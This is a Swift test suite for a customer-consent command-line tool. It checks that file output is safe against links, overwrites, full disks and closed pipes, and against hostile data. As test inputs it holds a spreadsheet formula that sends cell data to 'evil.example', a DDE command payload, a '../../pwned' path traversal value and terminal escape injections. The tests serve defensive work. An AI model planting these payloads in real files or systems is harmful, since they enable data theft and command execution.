import Foundation
import Testing
import TestSupport

/// Every file the program writes goes through one writer: never over the store, never
/// through a link, never over an existing file without --force, never a crash on a full
/// disk or a closed pipe, never "written" before it is true.
@Suite("Output safety, through the real binary")
struct OutputSafetyTests {
    static let contoso = "0f8fad5b-d9cb-469f-a165-70867728950e"

    /// A store with Contoso confirmed (phone given), so every export format has a row.
    static func confirmed() throws -> CLI {
        let cli = try CLI.withCustomer()
        let result = try cli("confirm", "contoso.com", "--first", "Anna", "--last", "Smith", "--email", "anna@contoso.com",
                             "--phone", "+1 425 555 0100", "--date", "2026-11-20", "--evidence", "TICKET-1")
        #expect(result.status == 0, "\(result.stderr)")
        return cli
    }

    static func mode(_ path: String) -> Int {
        var info = stat()
        stat(path, &info)
        return Int(info.st_mode & 0o777)
    }

    static func contents(_ path: String) -> String? { try? String(contentsOfFile: path, encoding: .utf8) }

    static func expectVerifies(_ cli: CLI, sourceLocation: SourceLocation = #_sourceLocation) throws {
        let verify = try cli("verify")
        #expect(verify.status == 0, "\(verify.stderr)", sourceLocation: sourceLocation)
        #expect(verify.stdout.contains("the chain is intact"), sourceLocation: sourceLocation)
    }

    static func expectNoCrash(_ result: ProcessResult, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(result.status != 132 && result.status != 134 && result.status != 139, sourceLocation: sourceLocation)
        #expect(!result.stderr.contains("Fatal error") && !result.stderr.contains("backtrace")
                && !result.stderr.contains("Crash"), "\(result.stderr)", sourceLocation: sourceLocation)
    }

    @Test(arguments: ["store.sqlite", "store.sqlite-wal", "store.sqlite-shm"])
    func outputOntoTheStoresOwnFilesIsRefusedEvenWithForce(name: String) throws {
        let cli = try Self.confirmed()
        let storeFile = cli.store + "/store.sqlite"
        let before = try Data(contentsOf: URL(fileURLWithPath: storeFile))
        // Directly, through another spelling of the folder, and through a link to the folder.
        try FileManager.default.createSymbolicLink(atPath: cli.dir.file("alias"), withDestinationPath: cli.store)
        for path in [cli.store + "/" + name, cli.dir.path + "/./store/../store/" + name, cli.dir.file("alias") + "/" + name] {
            for extra in [[], ["--force"]] {
                let result = try cli.call(["export", "--output", path] + extra)
                #expect(result.status == 1)
                #expect(result.stderr.contains("one of the store's own files"), "\(result.stderr)")
                #expect(!result.stderr.contains("written."))
            }
        }
        #expect(try Data(contentsOf: URL(fileURLWithPath: storeFile)) == before)
        try Self.expectVerifies(cli)
    }

    @Test func backupOntoTheStoreItselfIsRefused() throws {
        let cli = try Self.confirmed()
        let result = try cli("backup", cli.store + "/store.sqlite", "--force")
        #expect(result.status == 1)
        #expect(result.stderr.contains("one of the store's own files"))
        try Self.expectVerifies(cli)
    }

    @Test func anExistingFileIsKeptUnlessForcedAndThenReplacedAs0600() throws {
        let cli = try Self.confirmed()
        let target = cli.dir.file("report.csv")
        try "keep me\n".write(toFile: target, atomically: false, encoding: .utf8)
        chmod(target, 0o644)
        for arguments in [["export", "--output", target], ["list", "--output", target], ["show", "contoso.com", "--output", target],
                          ["export", "--format", "history", "--output", target]] {
            let refused = try cli.call(arguments)
            #expect(refused.status == 1, "\(arguments)")
            #expect(refused.stderr.contains("already exists") && refused.stderr.contains("--force"), "\(refused.stderr)")
            #expect(Self.contents(target) == "keep me\n")
        }
        let forced = try cli("export", "--output", target, "--force")
        #expect(forced.status == 0, "\(forced.stderr)")
        #expect(forced.stderr.contains("1 row written."))
        #expect(Self.contents(target)?.hasPrefix("tenantId,companyName") == true)
        #expect(Self.mode(target) == 0o600)
        // Nothing else was left in the folder (no temporary file).
        let names = try FileManager.default.contentsOfDirectory(atPath: cli.dir.path)
        #expect(!names.contains { $0.hasSuffix(".tmp") })
        // A new file is 0600 too.
        let fresh = cli.dir.file("fresh.csv")
        #expect(try cli("list", "--output", fresh).status == 0)
        #expect(Self.mode(fresh) == 0o600)
        try Self.expectVerifies(cli)
    }

    @Test func linksAreNeverFollowedExistingOrDangling() throws {
        let cli = try Self.confirmed()
        let victim = cli.dir.file("victim.txt")
        try "precious\n".write(toFile: victim, atomically: false, encoding: .utf8)
        let link = cli.dir.file("link.csv"), dangling = cli.dir.file("dangling.csv"), missing = cli.dir.file("created-through-link")
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: victim)
        try FileManager.default.createSymbolicLink(atPath: dangling, withDestinationPath: missing)
        for path in [link, dangling] {
            for extra in [[], ["--force"]] {
                for command in [["export"], ["list"], ["export", "--format", "attestations"]] {
                    let result = try cli.call(command + ["--output", path] + extra)
                    #expect(result.status == 1)
                    #expect(result.stderr.contains("symbolic link"), "\(result.stderr)")
                }
            }
        }
        let backup = try cli("backup", dangling, "--force")
        #expect(backup.status == 1)
        #expect(Self.contents(victim) == "precious\n")
        #expect(!FileManager.default.fileExists(atPath: missing))
        try Self.expectVerifies(cli)
    }

    /// `/dev/full` as `--output` for each kind of output, and as standard output.
    @Test(arguments: [
        ["list", "--output", "/dev/full"],
        ["list", "--json", "--output", "/dev/full"],
        ["show", "contoso.com", "--output", "/dev/full"],
        ["export", "--output", "/dev/full"],
        ["export", "--format", "attestations", "--output", "/dev/full"],
        ["export", "--format", "history", "--output", "/dev/full"],
    ])
    func aFullDiskIsAClearErrorNeverACrashNorWritten(arguments: [String]) throws {
        let cli = try Self.confirmed()
        let result = try cli.call(arguments)
        Self.expectNoCrash(result)
        #expect(result.status == 1)
        #expect(result.stderr.contains("The disk is full"), "\(result.stderr)")
        #expect(!result.stderr.contains("written."))
        // The same command with standard output on the full device.
        let command = ([Products.consentdesk] + arguments.dropLast(2)).map(shellQuote).joined(separator: " ")
        let redirected = try shell("\(command) > /dev/full",
                                   environment: ["CONSENTDESK_STORE": cli.store, "CONSENTDESK_NOW": CLI.now, "LANG": "C.UTF-8"])
        Self.expectNoCrash(redirected)
        #expect(redirected.status == 1)
        #expect(redirected.stderr.contains("The disk is full: standard output"), "\(redirected.stderr)")
        #expect(!redirected.stderr.contains("written."))
        try Self.expectVerifies(cli)
    }

    @Test func aClosedPipeIsAMessageNotACrash() throws {
        let cli = CLI()
        #expect(try cli("demo", "--customers", "300").status == 0)
        let script = "\(shellQuote(Products.consentdesk)) export --format history 2>\(shellQuote(cli.dir.file("err"))) | head -c 1 >/dev/null; echo \"status=${PIPESTATUS[0]}\""
        let result = try run("/bin/bash", ["-c", script], environment: ["CONSENTDESK_STORE": cli.store, "CONSENTDESK_NOW": CLI.now])
        #expect(result.stdout.contains("status=1"), "\(result.stdout)")
        let stderr = Self.contents(cli.dir.file("err")) ?? ""
        #expect(stderr.contains("Standard output was closed"), "\(stderr)")
        #expect(!stderr.contains("Fatal error"))
    }

    @Test func formulaCellsAreNeutralisedInBothCSVFormatsButPhoneNumbersStayAsTheyAre() throws {
        let cli = CLI()
        try cli("profile", "set", "--name", "Northwind", "--tenant-id", "6f1c2a9e-0d54-4b7a-9a3e-2f8b1c7d5e40",
                "--domains", "northwind.example", "--role", "directBill", "--user-id", "5f0c9a1e-3b7d-4c2a-9e41-7d2b8c6a0f13")
        let company = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        #expect(try cli("add-customer", "--tenant-id", Self.contoso, "--name", company, "--domains", "contoso.com").status == 0)
        let confirm = try cli("confirm", Self.contoso, "--first", "+cmd|' /C calc'!A0", "--last", "@SUM(1+1)",
                              "--email", "anna@contoso.com", "--phone", "+1 425 555 0100", "--date", "2026-11-20",
                              "--evidence=-2+3")
        #expect(confirm.status == 0, "\(confirm.stderr)")
        for format in ["csv", "attestations"] {
            let path = cli.dir.file("\(format).csv")
            #expect(try cli("export", "--format", format, "--output", path).status == 0)
            let text = Self.contents(path) ?? ""
            #expect(text.contains("'+cmd|' /C calc'!A0"), "\(format): \(text)")
            #expect(text.contains("'@SUM(1+1)"), "\(format)")
            #expect(text.contains(",+1 425 555 0100,"), "\(format): the phone number stays as it is")
            #expect(!text.contains(",+cmd") && !text.contains(",@SUM") && !text.contains(",=HYPERLINK") && !text.contains(",\"=HYPERLINK"))
            if format == "csv" {
                #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""), "\(text)")
                #expect(text.contains("'-2+3"))
            }
        }
        // --bom starts the file with a UTF-8 byte order mark; not for the JSON formats.
        let bom = cli.dir.file("bom.csv")
        #expect(try cli("export", "--bom", "--output", bom).status == 0)
        #expect(try Data(contentsOf: URL(fileURLWithPath: bom)).prefix(3) == Data([0xEF, 0xBB, 0xBF]))
        #expect(try cli("export", "--format", "history", "--bom").status == 64)
        // A phone number that is not one is refused on input, and nothing is written.
        let history = try cli("export", "--format", "history").stdout
        let badPhone = try cli("confirm", Self.contoso, "--first", "Bob", "--last", "Jones", "--email", "bob@contoso.com",
                               "--phone", "=1+2", "--date", "2026-11-21")
        #expect(badPhone.status == 2)
        #expect(badPhone.stderr.contains("Phone number"))
        #expect(try cli("export", "--format", "history").stdout == history)
        try Self.expectVerifies(cli)
    }

    @Test func partnerCenterFileNamesComeOnlyFromGUIDTenantIds() throws {
        let cli = try Self.confirmed()
        let storeFile = cli.store + "/store.sqlite"
        let nested = cli.dir.file("a/b")
        try FileManager.default.createDirectory(atPath: nested, withIntermediateDirectories: true)
        let bodies = nested + "/bodies"
        #expect(try shell("sqlite3 \(shellQuote(storeFile)) \"UPDATE customers SET tenantId = '../../pwned' WHERE tenantId = '\(Self.contoso)'\"").status == 0)
        let result = try cli("export", "--format", "partner-center", "--output", bodies)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains("Skipped customer ../../pwned"), "\(result.stderr)")
        #expect(result.stderr.contains("0 agreement bodies written"))
        for path in [cli.dir.file("a/pwned.json"), cli.dir.file("pwned.json"), bodies + "/../../pwned.json", nested + "/pwned.json"] {
            #expect(!FileManager.default.fileExists(atPath: path), "\(path)")
        }
        #expect(Self.mode(bodies) == 0o700)
        #expect(try shell("sqlite3 \(shellQuote(storeFile)) \"UPDATE customers SET tenantId = '\(Self.contoso)' WHERE tenantId = '../../pwned'\"").status == 0)

        // An existing body is refused (nothing written) unless --force; a link never followed.
        let body = bodies + "/\(Self.contoso).json"
        try "old\n".write(toFile: body, atomically: false, encoding: .utf8)
        let refused = try cli("export", "--format", "partner-center", "--output", bodies)
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("already exists"))
        #expect(Self.contents(body) == "old\n")
        let forced = try cli("export", "--format", "partner-center", "--output", bodies, "--force")
        #expect(forced.status == 0, "\(forced.stderr)")
        #expect(Self.contents(body)?.contains("\"templateId\"") == true)
        #expect(Self.mode(body) == 0o600)
        try FileManager.default.removeItem(atPath: body)
        let victim = cli.dir.file("victim.txt")
        try "precious\n".write(toFile: victim, atomically: false, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: body, withDestinationPath: victim)
        let linked = try cli("export", "--format", "partner-center", "--output", bodies, "--force")
        #expect(linked.status == 1)
        #expect(linked.stderr.contains("symbolic link"))
        #expect(Self.contents(victim) == "precious\n")
        try Self.expectVerifies(cli)
    }

    @Test func hostileTextFromTheStoreReachesTheTerminalEscaped() throws {
        let cli = try Self.confirmed()
        let storeFile = cli.store + "/store.sqlite"
        // Colour codes, an OSC 52 clipboard write and a right-to-left override, straight into the projection.
        let sql = """
            UPDATE customers SET companyName = 'Evil' || char(27) || '[31m Corp' || char(8238),
              cEvidence = char(27) || ']52;c;ZXZpbA==' || char(7),
              subscriptions = '[{"id":"S-1","offer":"Office \\u001b]52;c;ZXZpbA==\\u0007 E3 \\u202e","seats":5,"autoRenew":true}]'
            WHERE tenantId = '\(Self.contoso)';
            """
        #expect(try shell("sqlite3 \(shellQuote(storeFile)) \(shellQuote(sql))").status == 0)
        func clean(_ text: String) -> Bool {
            !text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" || $0 == "\u{202E}" }
        }
        for arguments in [["show", Self.contoso], ["show", Self.contoso, "--json"], ["list"], ["list", "--json"],
                          ["check", Self.contoso, "--transaction", "new-purchase"], ["export", "--format", "history"]] {
            let result = try cli.call(arguments)
            #expect(clean(result.stdout) && clean(result.stderr), "\(arguments)")
        }
        let show = try cli("show", Self.contoso)
        #expect(show.stdout.contains("Evil\\u{1B}[31m Corp\\u{202E}"))
        #expect(show.stdout.contains("Office \\u{1B}]52;c;ZXZpbA==\\u{7} E3"))
        // JSON stays valid JSON, with the characters as JSON escapes.
        let json = try CLI.jsonLines(try cli("list", "--json").stdout)
        #expect(json.first?["companyName"] as? String == "Evil\u{1B}[31m Corp\u{202E}")
        // verify names the changed customer by its (hostile) tenant id, escaped.
        #expect(try shell("sqlite3 \(shellQuote(storeFile)) \(shellQuote("UPDATE customers SET tenantId = tenantId || char(27) || '[2J';"))").status == 0)
        let verify = try cli("verify")
        #expect(verify.status == 4)
        #expect(clean(verify.stdout) && clean(verify.stderr))
        #expect(verify.stderr.contains("\\u{1B}[2"), "\(verify.stderr)")
    }
}
